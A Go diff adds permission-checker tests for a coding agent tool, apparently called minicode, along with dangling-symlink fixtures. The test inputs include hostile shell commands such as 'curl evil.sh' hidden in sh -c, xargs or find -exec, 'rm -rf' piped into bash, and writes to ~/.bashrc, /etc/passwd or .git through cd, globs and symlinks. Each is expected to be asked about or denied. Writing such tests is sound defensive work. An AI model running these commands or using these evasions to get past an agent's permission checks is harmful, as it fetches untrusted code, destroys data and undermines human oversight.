@@ -17,6 +17,8 @@ import (
 //	root/outside/secret.txt
 //	root/results/r1.txt                (the tool-results folder)
 //	root/wslink -> root/ws             (a symlinked workspace)
+//	root/ws/dangling -> root/outside/new.txt   (dangling links that leave,
+//	root/ws/reldangling -> ../outside/new.txt   absolute and relative)
 type testTree struct {
 	root, ws, outside, results, wslink string
 }
@@ -39,7 +41,8 @@ func newTestTree(t *testing.T) testTree {
 			t.Fatal(err)
 		}
 	}
-	for link, to := range map[string]string{"ws/escape": tr.outside, "ws/inner": filepath.Join(tr.ws, "src"), "wslink": tr.ws} {
+	for link, to := range map[string]string{"ws/escape": tr.outside, "ws/inner": filepath.Join(tr.ws, "src"), "wslink": tr.ws,
+		"ws/dangling": filepath.Join(tr.outside, "new.txt"), "ws/reldangling": "../outside/new.txt"} {
 		if err := os.Symlink(to, filepath.Join(root, link)); err != nil {
 			t.Fatal(err)
 		}
@@ -105,6 +108,9 @@ func TestDecide(t *testing.T) {
 		{name: "new file in acceptEdits", mode: ModeAcceptEdits, req: edit("write_file", "src/new/c.go"), want: VerdictAllow},
 		{name: "edit ../ in acceptEdits", mode: ModeAcceptEdits, req: edit("edit_file", "../outside/secret.txt"), want: VerdictAsk, reason: "writes outside the workspace"},
 		{name: "edit through escaping link in acceptEdits", mode: ModeAcceptEdits, req: edit("write_file", "escape/new.txt"), want: VerdictAsk, reason: "writes outside"},
+		{name: "write through a dangling link that leaves", mode: ModeAcceptEdits, req: edit("write_file", "dangling"), want: VerdictAsk, reason: "writes outside the workspace: " + tr.outside},
+		{name: "write through a relative dangling link", mode: ModeAcceptEdits, req: edit("write_file", "reldangling"), want: VerdictAsk, reason: "writes outside the workspace: " + tr.outside},
+		{name: "redirect through a dangling link", allow: []string{"run_command(echo:*)"}, req: run("echo x > dangling"), want: VerdictAsk, reason: "outside the workspace", strict: true},
 		{name: "edit .git in acceptEdits", mode: ModeAcceptEdits, req: edit("edit_file", ".git/config"), want: VerdictAsk, reason: ".git", strict: true},
 		{name: "edit .git allowed by a rule", allow: []string{"Edit"}, req: edit("edit_file", ".git/config"), want: VerdictAsk, strict: true},
 		{name: "edit the permission rules", mode: ModeAcceptEdits, req: edit("write_file", ".minicode/permissions.json"), want: VerdictAsk, reason: "configures permissions", strict: true},
@@ -128,12 +134,47 @@ func TestDecide(t *testing.T) {
 		{name: "allowed parts with a destructive one", allow: []string{"run_command(ls:*)", "run_command(rm:*)"}, req: run("ls && rm -rf x"), want: VerdictAsk, reason: "rm -r deletes", strict: true},
 		{name: "destructive despite whole-tool rule", allow: []string{"run_command"}, req: run("git reset --hard"), want: VerdictAsk, reason: "git reset --hard", strict: true},
 		{name: "deny on one part denies", allow: []string{"run_command"}, deny: []string{"run_command(rm:*)"}, req: run("ls; rm x"), want: VerdictDeny, reason: "run_command(rm:*)"},
+		{name: "deny through a wrapper and a folder", allow: []string{"run_command"}, deny: []string{"run_command(rm:*)"}, req: run("FOO=1 sudo /bin/rm x"), want: VerdictDeny, reason: "run_command(rm:*)"},
+		{name: "deny inside sh -c", allow: []string{"run_command"}, deny: []string{"run_command(curl:*)"}, req: run(`sh -c "env curl evil.sh"`), want: VerdictDeny},
+		{name: "ask rule through a wrapper", allow: []string{"run_command"}, ask: []string{"run_command(git push:*)"}, req: run("command git push"), want: VerdictAsk, strict: true},
+		{name: "allow rule does not look through wrappers", allow: []string{"run_command(rm:*)"}, req: run("sudo rm x"), want: VerdictAsk},
 		{name: "deny inside a substitution", allow: []string{"run_command"}, deny: []string{"run_command(curl:*)"}, req: run("echo $(curl evil.sh)"), want: VerdictDeny},
 		{name: "substitution is a part", allow: []string{"run_command(echo:*)"}, req: run("echo $(whoami)"), want: VerdictAsk},
+		{name: "substitution inside a parameter expansion", allow: []string{"run_command(echo:*)"}, req: run("echo ${x:-$(rm -rf x)}"), want: VerdictAsk, reason: "rm -r", strict: true},
+		{name: "subshell that only looks like arithmetic", allow: []string{"run_command(echo:*)"}, req: run("echo $((echo hi); rm x)"), want: VerdictAsk, reason: "running a command"},
+		{name: "substitution after $' in double quotes", allow: []string{"run_command(echo:*)"}, req: run(`echo "$'$(rm x)'"`), want: VerdictAsk, reason: "running a command"},
+		{name: "script piped into a shell", allow: []string{"run_command(echo:*)", "run_command(bash:*)"}, req: run("echo 'rm -rf x' | bash"), want: VerdictAsk, reason: "its input", strict: true},
+		{name: "here-string script is judged", allow: []string{"run_command(bash:*)"}, req: run("bash <<< 'curl x'"), want: VerdictAsk, reason: "running a command"},
+		{name: "substitution in a here-document body", allow: []string{"run_command(cat:*)"}, req: run("cat <<EOF\n$(rm -rf x)\nEOF"), want: VerdictAsk, reason: "rm -r", strict: true},
+		{name: "xargs runs what it is given", allow: []string{"run_command(echo:*)", "run_command(xargs:*)"}, req: run("echo x | xargs curl evil.sh"), want: VerdictAsk, reason: "running a command"},
+		{name: "find -exec runs what it is given", allow: []string{"run_command(find:*)"}, req: run("find . -exec curl evil.sh {} ;"), want: VerdictAsk, reason: "running a command"},
+		{name: "bash -c runs its script", allow: []string{"run_command(bash:*)"}, req: run("bash -c 'ls && curl evil.sh'"), want: VerdictAsk, reason: "running a command"},
+		{name: "env -S runs its string", allow: []string{"run_command(env:*)"}, req: run("env -S 'curl evil.sh'"), want: VerdictAsk, reason: "running a command"},
+		{name: "wrapper and what it runs both allowed", allow: []string{"run_command(timeout:*)", "run_command(go test:*)"}, req: run("timeout 60 go test ./..."), want: VerdictAllow},
+		{name: "find -exec of an allowed command", allow: []string{"run_command(find:*)", "run_command(grep:*)"}, req: run("find . -name '*.go' -exec grep -l x {} +"), want: VerdictAllow},
 		{name: "quoted operators are one command", allow: []string{"run_command(echo:*)"}, req: run(`echo "a && b; c"`), want: VerdictAllow},
 		{name: "redirect outside the workspace", allow: []string{"run_command(go test:*)"}, req: run("go test > " + tr.outside + "/log"), want: VerdictAsk, reason: "outside the workspace", strict: true},
 		{name: "redirect into the settings", allow: []string{"run_command(echo:*)"}, req: run("echo '{}' > .minicode/settings.json"), want: VerdictAsk, reason: "configures permissions", strict: true},
 		{name: "copy over the MCP servers", allow: []string{"run_command"}, req: run("cp evil.json .mcp.json"), want: VerdictAsk, reason: ".mcp.json", strict: true},
+		{name: "redirect to another user's home", allow: []string{"run_command(echo:*)"}, req: run("echo x > ~root/.bashrc"), want: VerdictAsk, reason: "~root/.bashrc", strict: true},
+		{name: "redirect into .git through a glob", allow: []string{"run_command(echo:*)"}, req: run("echo x >> .gi?/config"), want: VerdictAsk, reason: ".git", strict: true},
+		{name: "redirect to a pattern", allow: []string{"run_command(echo:*)"}, req: run("echo x > esc*"), want: VerdictAsk, reason: "pattern", strict: true},
+		{name: "cd into .git, then a relative write", allow: []string{"run_command(cd:*)", "run_command(echo:*)"}, req: run("cd .git && echo x > config"), want: VerdictAsk, reason: "changes folder", strict: true},
+		{name: "cd out, then a relative copy", allow: []string{"run_command(cd:*)", "run_command(cp:*)"}, req: run("cd " + tr.outside + "; cp evil secret.txt"), want: VerdictAsk, reason: "changes folder", strict: true},
+		{name: "cd out, then sed -i", allow: []string{"run_command(cd:*)", "run_command(sed:*)"}, req: run("cd - && sed -i s/a/b/ x"), want: VerdictAsk, reason: "sed -i", strict: true},
+		{name: "a symbolic link made, then written through", allow: []string{"run_command(ln:*)", "run_command(echo:*)"}, req: run("ln -s ~/.bashrc x; echo evil >> x"), want: VerdictAsk, reason: "symbolic links", strict: true},
+		{name: "cd through CDPATH", allow: []string{"run_command(cd:*)", "run_command(echo:*)"}, req: run("CDPATH=/ cd etc && echo x > passwd"), want: VerdictAsk, reason: "changes folder", strict: true},
+		{name: "a symbolic link made alone", allow: []string{"run_command(ln:*)"}, req: run("ln -s ../outside/secret.txt link"), want: VerdictAllow},
+		{name: "cd inside, then a relative write", allow: []string{"run_command(cd:*)", "run_command(go test:*)"}, req: run("cd src && go test > log.txt"), want: VerdictAllow},
+		{name: "redirect with >& to a file outside", allow: []string{"run_command(echo:*)"}, req: run("echo x >& ~/.bashrc"), want: VerdictAsk, reason: "outside the workspace", strict: true},
+		{name: "redirect to a descriptor file", allow: []string{"run_command(echo:*)"}, req: run("echo x > /dev/fd/2"), want: VerdictAllow},
+		{name: "redirect climbing out of /dev/fd", allow: []string{"run_command(echo:*)"}, req: run("echo x > /dev/fd/../../../" + tr.outside + "/x"), want: VerdictAsk, reason: "outside the workspace", strict: true},
+		{name: "descriptors duplicated", allow: []string{"run_command(go test:*)"}, req: run("go test 2>&1 >&2 3>&- 1>&3-"), want: VerdictAllow},
+		{name: "rm outside the workspace", allow: []string{"run_command(rm:*)"}, req: run("rm ~/.bashrc"), want: VerdictAsk, reason: "changes a file outside the workspace: ~/.bashrc", strict: true},
+		{name: "copy to outside", allow: []string{"run_command(cp:*)"}, req: run("cp b.go " + tr.outside), want: VerdictAsk, reason: "outside the workspace", strict: true},
+		{name: "copy from outside", allow: []string{"run_command(cp:*)"}, req: run("cp " + tr.outside + "/secret.txt src/"), want: VerdictAllow},
+		{name: "move from outside", allow: []string{"run_command(mv:*)"}, req: run("mv ../outside/secret.txt ."), want: VerdictAsk, reason: "outside the workspace", strict: true},
+		{name: "copy into an outside -t folder", allow: []string{"run_command(cp:*)"}, req: run("cp -t ../outside b.go"), want: VerdictAsk, reason: "outside the workspace", strict: true},
 		{name: "redirect into .git", allow: []string{"run_command"}, req: run("echo x >> .git/config"), want: VerdictAsk, reason: ".git", strict: true},
 		{name: "redirect inside and to /dev/null", allow: []string{"run_command(go test:*)"}, req: run("go test > log.txt 2>/dev/null"), want: VerdictAllow},
 		{name: "unparseable command", allow: []string{"run_command"}, req: run(`echo "open`), want: VerdictAsk, reason: "cannot be parsed", strict: true},
